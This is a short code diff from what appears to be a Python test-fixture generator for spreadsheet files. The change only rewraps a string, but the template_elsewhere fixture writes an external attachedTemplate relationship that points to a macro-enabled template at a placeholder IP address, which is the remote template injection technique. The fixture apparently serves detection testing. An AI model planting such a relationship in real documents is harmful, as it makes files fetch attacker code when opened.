@@ -200,7 +200,8 @@ def hidden_sheets(path: Path) -> None:
 def template_elsewhere(path: Path) -> None:
     there = (
         f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="rId1" '
-        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" Type="{OFFICE}/attachedTemplate" '
+        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/><Relationship Id="rId2" '
+        f'Type="{OFFICE}/attachedTemplate" '
         'Target="http://198.51.100.1/t.xltm" TargetMode="External"/></Relationships>'
     )
     write(path, {**parts(), "_rels/.rels": there})
